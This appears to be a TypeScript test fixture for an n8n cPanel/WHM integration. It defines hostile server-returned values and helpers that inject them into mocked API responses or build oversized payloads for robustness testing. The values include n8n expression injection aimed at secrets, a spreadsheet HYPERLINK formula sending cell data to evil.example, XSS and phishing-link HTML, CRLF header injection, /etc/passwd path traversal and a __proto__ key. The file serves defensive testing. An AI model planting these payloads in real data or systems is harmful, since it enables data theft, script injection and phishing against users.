import type { AccountSeed, Mailbox } from './accounts';

/** Texts that a server may put where a name belongs, and what each of them is after. */
export const HOSTILE_TEXTS = {
	'an expression of n8n': '={{ $("Start").first().json.secret }}',
	'an expression within a text': 'anna{{ $json.secret }}@example.com',
	'the beginning of an expression': '=anna',
	'a bracket of an expression': '{{',
	'a formula of a spreadsheet': '=HYPERLINK("https://evil.example/"&A1)',
	'a zero-width character': 'an\u200bna@example.com',
	'a joiner at the end': 'anna@example.com\u200d',
	'a byte order mark': '\ufeffanna@example.com',
	'a soft hyphen': 'an\u00adna@example.com',
	'a direction mark': '\u202emoc.elpmaxe@anna\u202c',
	'an isolate': '\u2066anna@example.com\u2069',
	'a line end': 'anna@example.com\r\nX-Injected: 1',
	'a separator of lines': 'anna\u2028@example.com',
	'a zero byte': 'anna\u0000@example.com',
	'a control character': 'anna\u001b[2J@example.com',
	'a deleted character': 'anna\u007f@example.com',
	'a blank around': ' anna@example.com ',
	'a no-break space': 'anna\u00a0@example.com',
	'half a character': 'anna\ud800@example.com',
	'a letter of another alphabet': 'аnna@example.com',
	'a tag': '<a href="https://evil.example/">Sign in again</a>',
	'a tag within a tag': '<a<b> href="https://evil.example/">Sign in again</a<b>>',
	'an image': '<img src=x onerror=alert(1)>@example.com',
	'a quote': '"\'><b>@example.com',
	'a path': '../../../etc/passwd',
	'two addresses': 'anna@example.com,ben@example.com',
	'the name of a property': '__proto__',
	nothing: '',
	'a very long text': `${'a'.repeat(100_000)}@example.com`,
} as const;

/** The name of a hostile text. */
export type HostileText = keyof typeof HOSTILE_TEXTS;

/**
 * For the switch `alterData`: one more entry in every list, with this text in all the places of a name.
 *
 * @param shown what stands in the place that is shown, where it is to look like something else
 */
export function withHostileEntry(
	text: string,
	shown: string = text,
): (data: unknown, called: string) => unknown {
	return (data, called) => {
		switch (called) {
			case 'Email/list_pops':
				return [...rowsOf(data), { email: shown, login: text, suspended_login: 0 }];
			case 'Email/list_pops_with_disk':
				return [...rowsOf(data), { email: shown, user: text, domain: text, login: text }];
			case 'DomainInfo/list_domains':
				return { ...recordOf(data), addon_domains: [text], parked_domains: [text] };
			case 'Locale/list_locales':
				return [...rowsOf(data), { locale: text, name: shown, local_name: shown }];
			case 'listaccts':
				return { acct: [...rowsOf(recordOf(data)['acct']), { user: text, domain: shown }] };
			case 'getdomainowner':
				return { user: text };
			default:
				return data;
		}
	};
}

/** For the switch `jsonText`: a refusal with so many reasons. */
export function manyErrors(count: number, reason = 'x'): string {
	const errors = `[${`${JSON.stringify(reason)},`.repeat(count).slice(0, -1)}]`;
	return `{"status":0,"data":null,"errors":${errors},"messages":null,"warnings":null,"metadata":{}}`;
}

/** For the switch `jsonText`: an accepted answer whose `data` is so many lists in one another. */
export function deepData(depth: number, isWhm = false): string {
	const data = '['.repeat(depth) + ']'.repeat(depth);
	return isWhm
		? `{"metadata":{"result":1,"reason":"OK","version":1},"data":${data}}`
		: `{"status":1,"data":${data},"errors":null,"messages":null,"warnings":null,"metadata":{}}`;
}

/** An account with so many mailboxes, `box00000@…` and on: 13,300 of them are more than 1 MiB in one list. */
export function withMailboxes(seed: AccountSeed, count: number): AccountSeed {
	const digits = Math.max(5, String(count).length);
	const mailboxes = Object.fromEntries(
		Array.from({ length: count }, (_, index): [string, Mailbox] => [
			`box${String(index).padStart(digits, '0')}@${seed.mainDomain}`,
			{ password: 'box-password' },
		]),
	);
	return { ...seed, mailboxes };
}

function rowsOf(data: unknown): unknown[] {
	return Array.isArray(data) ? data : [];
}

function recordOf(data: unknown): Record<string, unknown> {
	return typeof data === 'object' && data !== null ? { ...data } : {};
}
